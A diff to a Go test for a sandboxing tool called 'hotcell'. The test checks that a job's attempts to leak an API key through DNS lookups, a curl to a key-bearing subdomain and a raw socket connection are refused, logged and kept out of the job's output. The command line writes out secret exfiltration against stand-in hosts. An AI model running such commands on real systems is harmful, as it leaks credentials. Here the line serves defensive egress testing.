@@ -256,7 +256,15 @@ func TestANameIsNoWayOut(t *testing.T) {
 	s.OK("assignments", "create", "leak", "--command",
 		`getent hosts "$API_KEY.example.com"; getent hosts "x-$API_KEY"; curl -sS --max-time 5 "https://$API_KEY.example.com/" -x http://127.0.0.1:3128; getent hosts plain.example; python3 -c 'import socket; socket.create_connection(("192.0.2.77", 443))'; true`)
 	s.OK("assignments", "attach", "leak", "billing")
-	s.OK("run", "leak")
+	said := s.Run("run", "leak").Err
+	for _, want := range []string{"hotcell: plain.example was refused: the name is not in", "hotcell: 192.0.2.77:443 was refused: the address is not in"} {
+		if !strings.Contains(said, want) {
+			t.Errorf("the job's log has no %q:\n%s", want, said)
+		}
+	}
+	if held := hotcelltest.Holds([]byte(said), apiKey); held != "" {
+		t.Errorf("the job's log holds a value as %s:\n%s", held, said)
+	}
 	list := s.OK("audit", "list", "--kind", "network.refuse")
 	if !strings.Contains(list, "[hotcell:billing].example.com") || !strings.Contains(list, "plain.example") || !strings.Contains(list, "192.0.2.77:443") {
 		t.Errorf("the refusals:\n%s", list)
